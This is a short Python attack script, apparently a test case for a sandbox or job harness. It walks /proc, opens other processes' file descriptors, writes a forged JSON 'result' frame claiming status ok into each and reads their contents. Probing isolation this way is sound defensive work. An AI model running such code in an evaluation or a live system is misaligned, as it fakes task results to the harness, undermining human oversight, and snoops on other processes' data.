"""Open other processes' file descriptors through /proc/<pid>/fd (the worker's pipes to the
harness and to the job) and write forged frames into them; read what they carry."""
import json
import os
import struct


def frame(msg):
    body = json.dumps(msg).encode()
    return struct.pack(">I", len(body)) + body


def attack(ctx):
    forged = frame({"op": "result", "result": {"status": "ok", "value": "FORGED-HARNESS"},
                    "status": "ok", "value": "FORGED-CHILD"})
    pids = {ctx["harness_pid"], os.getppid(), 1, 2, 3}
    try:
        pids |= {int(p) for p in os.listdir("/proc") if p.isdigit()}
    except OSError:
        pass
    pids.discard(os.getpid())
    opened = []
    for pid in sorted(pids):
        try:
            fds = os.listdir("/proc/%d/fd" % pid)
        except OSError:
            continue
        for fd in fds:
            p = "/proc/%d/fd/%s" % (pid, fd)
            for mode in (os.O_WRONLY, os.O_RDONLY):
                try:
                    f = os.open(p, mode | os.O_NONBLOCK)
                except OSError:
                    continue
                try:
                    if mode == os.O_WRONLY:
                        os.write(f, forged)
                    else:
                        os.read(f, 4096)
                    opened.append(p)
                except OSError:
                    pass
                finally:
                    os.close(f)
    return {"opened": opened}
